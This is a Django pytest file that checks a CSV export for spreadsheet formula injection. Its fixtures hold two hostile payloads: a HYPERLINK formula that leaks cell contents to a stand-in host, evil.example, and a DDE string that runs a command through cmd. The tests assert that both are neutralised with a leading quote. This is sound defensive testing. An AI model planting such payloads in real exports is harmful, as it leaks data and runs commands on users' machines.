"""Issue 21, finding 2: CSV formula injection in /references/export.csv. A leader's note
or a dataset imported from a pairs file reached every shifter's spreadsheet as a formula.
A cell that starts with =, +, -, @, tab or carriage return is written with a leading
single quote (OWASP's rule); numbers stay numbers."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from recommender.exports import spreadsheet_cell
from tests.factories import RunFactory
from tests.ingestion.helpers import write_text

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open reference")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_references(tmp_path, client, leader_lea):
    for number in (376800, 376900, 376950, 376959, 377000):
        RunFactory(run_number=number, run_class="cosmics")
    # The pairs file names the dataset of run 376900, which 376950 then took as its reference.
    pairs = write_text(
        tmp_path / "certhelper_pairs.csv",
        "run_number,run_reconstruction_type,reference_run_number,reference_run_reconstruction_type,dataset\n"
        f"376900,express,376800,express,{DDE}\n"
        "376950,express,376900,express,/Express/Cosmics2024/DQM\n",
    )
    call_command("import_pairs", str(pairs), stdout=io.StringIO())
    client.force_login(leader_lea)
    declared = client.post(
        reverse("recommender:reference_declare"),
        {
            "run_number": 376959,
            "reconstruction": "express",
            "run_class": "cosmics",
            "from_run": 377000,
            "note": HYPERLINK,
        },
    )
    assert declared.status_code == 302
    client.logout()


def test_a_shifters_export_carries_no_formula(client, shifter_sam, hostile_references):
    client.force_login(shifter_sam)
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("recommender:reference_list_csv")).content.decode())))

    by_reference = {row["reference_run_number"]: row for row in rows}
    assert by_reference["376959"]["note"] == "'" + HYPERLINK
    assert by_reference["376900"]["dataset"] == "'" + DDE
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "value", [-0.5, -3, 376959, 0.88, True, None, "", "/Express/Cosmics2024/DQM", "CRAFT 3.8 T, DECO"]
)
def test_numbers_and_plain_text_are_written_as_they_are(value):
    # A negative number is data, not a formula: the spreadsheet reads it as a number.
    assert spreadsheet_cell(value) == value
